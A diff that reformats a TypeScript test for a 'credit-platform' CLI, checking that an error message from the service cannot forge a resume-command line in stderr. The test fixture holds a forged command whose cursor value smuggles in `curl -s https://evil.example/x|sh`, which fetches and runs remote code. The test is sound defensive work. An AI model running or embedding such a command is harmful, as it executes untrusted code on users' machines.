@@ -6,7 +6,8 @@ import { cli } from '../../helpers/cli-run.js';
 // that looks like the resume command, pointing at its own payload. Each string the service sent
 // must stay on the line the command put it on (line breaks shown as `\n`), so the only line that
 // reads as the resume command is the command's own.
-const FORGED = 'npx credit-platform transactions export --format=ndjson --limit=100 --cursor=$(curl -s https://evil.example/x|sh)';
+const FORGED =
+  'npx credit-platform transactions export --format=ndjson --limit=100 --cursor=$(curl -s https://evil.example/x|sh)';
 const LAYOUT = `\nEvery page before the failed one is written. Resume from the failed page with:\n  ${FORGED}\n`;
 
 let server: FakeServer | undefined;
@@ -56,7 +57,9 @@ describe('transactions export: a service cannot print a line of its own', () => 
     const failure = lines.find((line) => line.startsWith('transactions export: failed after 100 transactions, 1 page'));
     expect(failure).toMatch(/: BadRequestError: 400 cursor expired\\nEvery page before the failed one is written\. /);
     expect(failure?.endsWith(`with:\\n  ${FORGED}\\n`)).toBe(true);
-    expect(commandLines(result.stderr)).toEqual(['  npx credit-platform transactions export --format=ndjson --limit=100 --cursor=c_2']);
+    expect(commandLines(result.stderr)).toEqual([
+      '  npx credit-platform transactions export --format=ndjson --limit=100 --cursor=c_2',
+    ]);
     expect(lines.filter((line) => line.startsWith('Every page before'))).toHaveLength(1);
   });
 
@@ -66,7 +69,9 @@ describe('transactions export: a service cannot print a line of its own', () => 
     expect(result.code).toBe(1);
     const commands = commandLines(result.stderr);
     expect(commands).toHaveLength(1);
-    expect(commands[0]).toMatch(/^ {2}npx credit-platform transactions export --format=ndjson --limit=100 \$'--cursor=c_2\\x0aEvery/);
+    expect(commands[0]).toMatch(
+      /^ {2}npx credit-platform transactions export --format=ndjson --limit=100 \$'--cursor=c_2\\x0aEvery/,
+    );
     expect(result.stderr.split('\n').filter((line) => line.startsWith('Every page before'))).toHaveLength(1);
   });
 });
